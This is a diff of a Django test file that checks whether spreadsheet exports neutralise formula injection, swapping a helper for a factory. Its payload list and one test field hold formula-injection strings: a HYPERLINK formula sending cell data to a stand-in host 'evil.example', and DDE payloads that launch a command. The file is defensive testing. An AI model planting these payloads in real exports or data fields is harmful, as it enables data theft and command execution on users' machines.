@@ -14,6 +14,7 @@ from import_export.mixins import BaseExportMixin
 from import_export.resources import Resource
 
 from alliance.core.exports import ReadableExportResource, neutralise_cell
+from tests.factories import ApplicationFactory
 
 PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -82,10 +83,9 @@ def test_no_formula_survives_any_export_of_any_model(monkeypatch, staff_user):
 @pytest.mark.django_db
 def test_an_applications_formula_reaches_the_xlsx_as_text(staff_client):
     from centres.models import Application, Call
-    from tests.centres.conftest import make_application
 
     call = Call.objects.create(code="first", name="First call", opened_on="2023-01-25")
-    application = make_application(call, organisation='=HYPERLINK("https://evil.example","Click")',
+    application = ApplicationFactory(call=call, organisation='=HYPERLINK("https://evil.example","Click")',
                                    contact_name="@Amina")
     model_admin = admin.site._registry[Application]
     formats = model_admin.get_export_formats()
